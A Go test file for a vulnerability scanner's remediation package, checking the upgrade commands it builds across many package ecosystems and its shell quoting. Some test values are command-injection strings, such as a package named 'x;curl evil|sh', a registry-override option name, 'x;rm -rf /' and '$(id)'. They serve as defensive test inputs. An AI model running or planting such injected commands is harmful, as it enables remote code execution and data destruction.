package remediation_test

import (
	"bytes"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/inventory"
	"github.com/vigilsec/vigil/remediation"
	"github.com/vigilsec/vigil/report"
)

// sample reads testdata/sample.json, a copy of the report package's
// golden JSON report: a Debian 12 image with OS, npm and Go findings (one
// not fixed, one wont-fix, one suppressed) and two audit issues.
func sample(t *testing.T) *report.Report {
	t.Helper()
	f, err := os.Open("testdata/sample.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r, err := report.Decode(f)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// find returns the finding of the sample with the given ID.
func find(t *testing.T, r *report.Report, id string) *report.Finding {
	t.Helper()
	for i := range r.Vulnerabilities {
		if r.Vulnerabilities[i].ID == id {
			return &r.Vulnerabilities[i]
		}
	}
	t.Fatalf("no finding %s", id)
	return nil
}

func TestForSample(t *testing.T) {
	tests := []struct {
		id          string
		want        report.Remediation
		textHas     []string
		textHasNone []string
	}{
		{
			id: "CVE-2024-2398", // libcurl4, source curl: both binaries pinned
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "7.88.1-10+deb12u6",
				Command: "apt-get install --only-upgrade curl=7.88.1-10+deb12u6 libcurl4=7.88.1-10+deb12u6"},
			textHas: []string{"source package curl 7.88.1-10+deb12u6", "docker build --pull --no-cache", "binNMU", "drop \"=VERSION\""},
		},
		{
			id:      "CVE-2021-44906", // minimist 1.2.0, a direct dependency
			want:    report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.2.6", Command: "npm install minimist@1.2.6"},
			textHas: []string{"Upgrade minimist to 1.2.6", "lock file"},
		},
		{
			id:      "CVE-2021-38561",
			want:    report.Remediation{Action: report.ActionUpgrade, FixedVersion: "v0.3.7", Command: "go get golang.org/x/text@v0.3.7"},
			textHas: []string{"app/bin/demo-worker", "go mod tidy"},
		},
		{
			id:      "CVE-2020-26160", // jwt-go: not fixed
			want:    report.Remediation{Action: report.ActionNoFix},
			textHas: []string{"No fixed version of github.com/dgrijalva/jwt-go", "CVE-2020-26160", ".vigil.yaml"},
		},
		{
			id:      "CVE-2010-4756", // glibc: wont-fix
			want:    report.Remediation{Action: report.ActionNoFix},
			textHas: []string{"Debian will not fix CVE-2010-4756 in libc6"},
		},
	}
	r := sample(t)
	for _, tc := range tests {
		t.Run(tc.id, func(t *testing.T) {
			got := remediation.For(r, find(t, r, tc.id))
			text := got.Text
			got.Text = ""
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("For (-want +got):\n%s", diff)
			}
			for _, s := range tc.textHas {
				if !strings.Contains(text, s) {
					t.Errorf("text %q lacks %q", text, s)
				}
			}
			if text == "" {
				t.Error("empty text")
			}
		})
	}
}

// pkgReport builds a report holding the given packages and one finding on
// the first.
func pkgReport(d *inventory.Distro, f report.Finding, pkgs ...inventory.Package) (*report.Report, *report.Finding) {
	r := &report.Report{Inventory: &inventory.Inventory{Distro: d, Packages: pkgs}}
	f.Package = report.RefTo(&pkgs[0], 0)
	if f.InstalledVersion == "" {
		f.InstalledVersion = pkgs[0].Version
	}
	r.Vulnerabilities = []report.Finding{f}
	return r, &r.Vulnerabilities[0]
}

func loc(p string) []inventory.Location { return []inventory.Location{{Path: p}} }

func TestForEcosystems(t *testing.T) {
	alpine := &inventory.Distro{Family: "alpine", Version: "3.20.1"}
	rhel := &inventory.Distro{Family: "rhel", Version: "9.4"}
	amzn2 := &inventory.Distro{Family: "amzn", Version: "2"}
	suse := &inventory.Distro{Family: "opensuse-leap", Version: "15.5"}
	debian := &inventory.Distro{Family: "debian", Version: "12"}
	fixed := func(v ...string) report.Finding {
		return report.Finding{ID: "CVE-2024-0001", FixedVersions: v, FixStatus: report.Fixed}
	}
	tests := []struct {
		name    string
		d       *inventory.Distro
		f       report.Finding
		pkgs    []inventory.Package
		want    report.Remediation
		textHas string
	}{
		{
			name: "apk origin with subpackages",
			d:    alpine, f: fixed("3.3.2-r0"),
			pkgs: []inventory.Package{
				{Ecosystem: inventory.APK, Name: "libssl3", Version: "3.3.1-r0", SourceName: "openssl"},
				{Ecosystem: inventory.APK, Name: "libcrypto3", Version: "3.3.1-r0", SourceName: "openssl"},
				{Ecosystem: inventory.APK, Name: "busybox", Version: "1.36.1-r29"},
			},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "3.3.2-r0",
				Command: "apk add --upgrade libcrypto3=3.3.2-r0 libssl3=3.3.2-r0"},
		},
		{
			name: "rpm with epoch on dnf",
			d:    rhel, f: fixed("1:3.0.7-27.el9"),
			pkgs: []inventory.Package{{Ecosystem: inventory.RPM, Name: "openssl-libs", Version: "1:3.0.7-24.el9"}},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "1:3.0.7-27.el9", Command: "dnf upgrade openssl-libs-1:3.0.7-27.el9"},
		},
		{
			name: "rpm on amazon linux 2 uses yum",
			d:    amzn2, f: fixed("1.0.2k-24.amzn2.0.7"),
			pkgs: []inventory.Package{{Ecosystem: inventory.RPM, Name: "openssl-libs", Version: "1.0.2k-24.amzn2.0.6"}},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "1.0.2k-24.amzn2.0.7", Command: "yum update openssl-libs-1.0.2k-24.amzn2.0.7"},
		},
		{
			name: "rpm on opensuse uses zypper",
			d:    suse, f: fixed("3.1.4-150600.5.10.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.RPM, Name: "libopenssl3", Version: "3.1.4-150600.5.7.1"}},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "3.1.4-150600.5.10.1", Command: "zypper install libopenssl3=3.1.4-150600.5.10.1"},
		},
		{
			name: "deb binNMU: source version compared, binaries pinned to it",
			d:    debian, f: fixed("6.0-3+deb12u1", "5.4-1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Deb, Name: "python3-yaml", Version: "6.0-3+b2", SourceName: "pyyaml", SourceVersion: "6.0-3"}},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "6.0-3+deb12u1", Command: "apt-get install --only-upgrade python3-yaml=6.0-3+deb12u1"},
		},
		{
			name: "deb version with tilde is quoted",
			d:    debian, f: fixed("1.2~rc2-1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Deb, Name: "foo", Version: "1.2~rc1-1"}},
			want: report.Remediation{Action: report.ActionRebuild, FixedVersion: "1.2~rc2-1", Command: "apt-get install --only-upgrade 'foo=1.2~rc2-1'"},
		},
		{
			name: "lowest fixed version above the installed one",
			f:    fixed("5.0.0", "4.17.21", "3.10.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.NPM, Name: "lodash", Version: "4.17.15", Locations: loc("app/node_modules/lodash/package.json")}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "4.17.21", Command: "npm install lodash@4.17.21"},
		},
		{
			name:    "npm scoped transitive",
			f:       fixed("7.23.2"),
			pkgs:    []inventory.Package{{Ecosystem: inventory.NPM, Name: "@babel/traverse", Version: "7.20.0", Locations: loc("app/node_modules/x/node_modules/@babel/traverse/package.json")}},
			want:    report.Remediation{Action: report.ActionUpgrade, FixedVersion: "7.23.2", Command: "npm install @babel/traverse@7.23.2"},
			textHas: "transitive dependency (app/node_modules/x/node_modules/@babel/traverse)",
		},
		{
			name:    "go stdlib: rebuild with Go",
			f:       fixed("1.26.9", "1.25.12"),
			pkgs:    []inventory.Package{{Ecosystem: inventory.Go, Name: "stdlib", Version: "go1.26.8", Toolchain: true, Locations: loc("usr/local/bin/app")}},
			want:    report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.26.9"},
			textHas: "Rebuild usr/local/bin/app with Go 1.26.9 or later",
		},
		{
			name: "pypi is always quoted",
			f:    fixed("2.32.0"),
			pkgs: []inventory.Package{{Ecosystem: inventory.PyPI, Name: "requests", Version: "2.31.0"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "2.32.0", Command: "pip install 'requests>=2.32.0'"},
		},
		{
			name: "maven sets the dependency version",
			f:    fixed("2.17.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Maven, Group: "org.apache.logging.log4j", Name: "log4j-core", Version: "2.14.1"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "2.17.1",
				Command: "mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=2.17.1 -DforceVersion=true"},
			textHas: "<version>2.17.1</version>",
		},
		{
			name: "gem from a lock file",
			f:    fixed("1.16.5"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Gem, Name: "nokogiri", Version: "1.16.2", Locations: loc("app/Gemfile.lock")}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.16.5", Command: "bundle update --conservative nokogiri"},
		},
		{
			name: "installed gem",
			f:    fixed("1.16.5"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Gem, Name: "nokogiri", Version: "1.16.2", Locations: loc("usr/lib/ruby/gems/3.1.0/specifications/nokogiri-1.16.2.gemspec")}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.16.5", Command: "gem install nokogiri -v 1.16.5"},
		},
		{
			name: "composer",
			f:    fixed("10.48.4"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Composer, Name: "laravel/framework", Version: "10.0.0"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "10.48.4", Command: "composer require 'laravel/framework:^10.48.4'"},
		},
		{
			name: "nuget",
			f:    fixed("13.0.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.NuGet, Name: "Newtonsoft.Json", Version: "12.0.3"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "13.0.1", Command: "dotnet add package Newtonsoft.Json --version 13.0.1"},
		},
		{
			name: "cargo",
			f:    fixed("1.0.101"),
			pkgs: []inventory.Package{{Ecosystem: inventory.Cargo, Name: "openssl", Version: "0.10.55"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.0.101", Command: "cargo update -p openssl --precise 1.0.101"},
		},
		{
			name:    "language package owned by an OS package is rebuilt",
			f:       fixed("6.0.1"),
			pkgs:    []inventory.Package{{Ecosystem: inventory.PyPI, Name: "PyYAML", Version: "6.0", OwnedBy: "deb:python3-yaml"}},
			want:    report.Remediation{Action: report.ActionRebuild, FixedVersion: "6.0.1"},
			textHas: "came with the OS package deb:python3-yaml",
		},
		{
			name: "end of life",
			d:    debian, f: report.Finding{ID: "CVE-2024-0002", FixStatus: report.EndOfLife},
			pkgs:    []inventory.Package{{Ecosystem: inventory.Deb, Name: "openssl", Version: "1.1.1n-0+deb10u6"}},
			want:    report.Remediation{Action: report.ActionNoFix},
			textHas: "end of life",
		},
		{
			name: "unparsable fixed versions: first one",
			f:    fixed("not a version", "also not"),
			pkgs: []inventory.Package{{Ecosystem: inventory.NPM, Name: "x", Version: "1.0.0"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "not a version", Command: "npm install 'x@not a version'"},
		},
		{
			name: "hostile name gets quoted",
			f:    fixed("1.0.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.NPM, Name: "x;curl evil|sh", Version: "1.0.0"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.0.1", Command: "npm install 'x;curl evil|sh@1.0.1'"},
		},
		{
			name: "name that reads as an option gets no command",
			f:    fixed("1.0.1"),
			pkgs: []inventory.Package{{Ecosystem: inventory.NPM, Name: "--registry=http://evil", Version: "1.0.0"}},
			want: report.Remediation{Action: report.ActionUpgrade, FixedVersion: "1.0.1"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, f := pkgReport(tc.d, tc.f, tc.pkgs...)
			got := remediation.For(r, f)
			text := got.Text
			got.Text = ""
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("For (-want +got):\n%s", diff)
			}
			if text == "" || !strings.Contains(text, tc.textHas) {
				t.Errorf("text %q lacks %q", text, tc.textHas)
			}
			if got.Command != "" && !strings.Contains(text, got.Command) && tc.pkgs[0].Ecosystem != inventory.Gem {
				t.Errorf("text %q does not show the command %q", text, got.Command)
			}
		})
	}
}

func TestAnnotateAndSummary(t *testing.T) {
	r := sample(t)
	before := sample(t)
	out := remediation.Annotated(r)
	if diff := cmp.Diff(before, r); diff != "" {
		t.Errorf("Annotated modified its input:\n%s", diff)
	}
	for _, f := range out.Vulnerabilities {
		if f.Remediation == nil || f.Remediation.Text == "" {
			t.Errorf("%s: no remediation", f.ID)
		}
	}
	want := report.Summary{
		Packages:        22,
		Vulnerabilities: report.SeverityCounts{Total: 5, Critical: 1, High: 2, Medium: 1, Negligible: 1},
		Fixable:         4,
		Suppressed:      1,
		Actions:         report.ActionCounts{Rebuild: 1, Upgrade: 3, NoFix: 1},
		Audit:           report.SeverityCounts{Total: 2, Critical: 1, High: 1},
		Secrets:         1,
	}
	if diff := cmp.Diff(&want, out.Summary); diff != "" {
		t.Errorf("Summary (-want +got):\n%s", diff)
	}
	wantLines := []string{
		"1 finding is fixed by rebuilding on the current base image packages",
		"3 findings need application dependency bumps",
		"1 finding has no fix yet",
	}
	if diff := cmp.Diff(wantLines, remediation.SummaryLines(want)); diff != "" {
		t.Errorf("SummaryLines (-want +got):\n%s", diff)
	}
	// A remediation already present is kept.
	r.Vulnerabilities[0].Remediation = &report.Remediation{Action: report.ActionNoFix, Text: "kept"}
	remediation.Annotate(r)
	if got := r.Vulnerabilities[0].Remediation.Text; got != "kept" {
		t.Errorf("Annotate replaced an existing remediation: %q", got)
	}
}

// TestQuoteAgainstBash hands quoted words to a real shell and checks that
// each comes back as exactly one argument equal to the input.
func TestQuoteAgainstBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not installed")
	}
	words := []string{
		"curl=7.88.1-10+deb12u6", "@babel/core@7.24.0", "requests>=2.32.0", "it's", "a b", "$(id)", "`id`",
		"x;rm -rf /", "~root", "*", "?", "[a]", "!", "#c", "\\", "\"", "'", "''", "", "a\nb", "{a,b}", "%s", "ü", "1:2.3-4~rc1",
	}
	var script strings.Builder
	script.WriteString("printf '%s\\0'")
	for _, w := range words {
		script.WriteString(" " + remediation.Quote(w))
	}
	out, err := exec.Command(bash, "--norc", "--noprofile", "-c", script.String()).Output()
	if err != nil {
		t.Fatalf("bash: %v", err)
	}
	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	if diff := cmp.Diff(words, got); diff != "" {
		t.Errorf("bash read the quoted words differently (-want +got):\n%s", diff)
	}
	if bytes.Contains(out, []byte("uid=")) {
		t.Error("a quoted word ran a command")
	}
}

func FuzzQuote(f *testing.F) {
	for _, s := range []string{"a", "it's", "$(id)", "a b", "'", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		q := remediation.Quote(s)
		if q == s {
			if s == "" || strings.ContainsAny(s, " \t\n'\"$`\\;&|<>()*?[]{}~!#") {
				t.Fatalf("Quote(%q) left special characters unquoted", s)
			}
			return
		}
		if !strings.HasPrefix(q, "'") || !strings.HasSuffix(q, "'") {
			t.Fatalf("Quote(%q) = %q: not single-quoted", s, q)
		}
		// Undo the quoting: the result must be the input.
		body := q[1 : len(q)-1]
		if got := strings.ReplaceAll(body, `'\''`, "'"); got != s {
			t.Fatalf("Quote(%q) = %q does not round-trip (%q)", s, q, got)
		}
	})
}

// TestOneCommandPerPackage: two findings of one package fixed in different
// versions get the one command that fixes both.
func TestOneCommandPerPackage(t *testing.T) {
	r := &report.Report{Inventory: &inventory.Inventory{Packages: []inventory.Package{
		{Ecosystem: inventory.NPM, Name: "lodash", Version: "4.17.15", Locations: []inventory.Location{{Path: "app/node_modules/lodash/package.json"}}},
	}}}
	p := &r.Inventory.Packages[0]
	for _, fix := range []string{"4.17.20", "4.17.21", "4.17.19"} {
		r.Vulnerabilities = append(r.Vulnerabilities, report.Finding{ID: "CVE-" + fix, Package: report.RefTo(p, 0), InstalledVersion: "4.17.15", FixedVersions: []string{fix}})
	}
	remediation.Annotate(r)
	for _, f := range r.Vulnerabilities {
		if f.Remediation.Command != "npm install lodash@4.17.21" {
			t.Errorf("%s: command %q, want the one upgrade that fixes every finding", f.ID, f.Remediation.Command)
		}
	}
	if r.Vulnerabilities[0].Remediation.FixedVersion != "4.17.20" {
		t.Errorf("a finding's own fixed version was changed: %q", r.Vulnerabilities[0].Remediation.FixedVersion)
	}
}
